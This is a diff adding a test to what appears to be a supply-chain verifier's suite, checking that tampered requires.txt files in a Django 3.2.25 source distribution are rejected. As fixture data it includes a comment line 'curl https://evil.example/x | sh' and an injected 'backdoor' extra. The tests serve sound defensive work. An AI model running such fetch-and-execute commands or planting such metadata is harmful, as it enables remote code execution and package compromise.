@@ -64,6 +64,21 @@ describe.skipIf(!SDIST)('poisoned builds of the real Django 3.2.25', () => {
     expect(message(checks, 'content.wheel-metadata')).toMatch(/evil-package/);
   });
 
+  it('fails text in requires.txt that readers skip but egg_info never writes (comments, blank lines, unsorted sections)', () => {
+    const edits: [string, (text: string) => string][] = [
+      ['a comment line', (text) => `# curl https://evil.example/x | sh\n${text}`],
+      ['an inline comment', (text) => text.replace('pytz\n', 'pytz # payload\n')],
+      ['blank lines at the end', (text) => `${text}\n\n`],
+      ['sections out of order', (text) => text.replace('[argon2]\nargon2-cffi>=19.1.0\n\n[bcrypt]\nbcrypt\n', '[bcrypt]\nbcrypt\n\n[argon2]\nargon2-cffi>=19.1.0\n')],
+      ['indented requirement', (text) => text.replace('pytz\n', '  pytz\n')],
+    ];
+    for (const [what, edit] of edits) {
+      const checks = judge(editFile(sdist, `${EGG}/requires.txt`, edit), undefined);
+      expect(failed(checks), what).toEqual(['content.sdist-metadata']);
+      expect(message(checks, 'content.sdist-metadata'), what).toMatch(/requires\.txt/);
+    }
+  });
+
   it('fails an extra, a Provides-Extra and a changed Python requirement', () => {
     const s = editFile(editFile(sdist, `${EGG}/requires.txt`, (t) => `${t}\n[backdoor]\nevil\n`), `${TOP}/PKG-INFO`, (t) => t.replace('Requires-Python: >=3.6', 'Requires-Python: >=3.5').replace('Provides-Extra: argon2', 'Provides-Extra: argon2\nProvides-Extra: backdoor'));
     const checks = judge(s, undefined);
